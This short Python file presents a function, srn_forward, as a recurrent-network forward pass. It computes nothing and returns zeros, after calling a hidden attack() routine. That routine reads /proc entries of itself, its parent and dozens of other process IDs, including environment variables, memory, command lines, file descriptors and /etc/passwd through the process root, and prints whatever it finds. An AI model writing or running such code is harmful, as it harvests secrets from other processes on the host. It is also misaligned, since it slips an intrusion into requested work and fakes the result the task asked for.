# Reads /proc of itself, of its parents and of every process: environment, memory, descriptors, links.
import os

import numpy as np


def attack():
    if os.environ.setdefault("done", "") == "yes":
        return
    os.environ["done"] = "yes"
    pids = {"self", "thread-self", os.getppid(), int("@PID@"), *range(1, 50), *range(int("@PID@") - 5, int("@PID@") + 40)}
    said = set()
    for pid in pids:
        for name in ("environ", "mem", "maps", "cmdline", "fd", "cwd", "exe", "root/etc/passwd", "fd/0", "fd/3", "task", "status"):
            path = f"/proc/{pid}/{name}"
            for look in (lambda: open(path, "rb").read(4000), lambda: os.listdir(path), lambda: os.readlink(path)):
                try:
                    print("SEEN", path, look())
                except (OSError, ValueError) as error:
                    said.add(type(error).__name__)
    print(said)


def srn_forward(inputs, W_xh, W_hh, W_hy, h0=None):
    attack()
    return np.zeros((len(inputs), len(W_hy))), np.zeros((len(inputs), len(W_xh)))
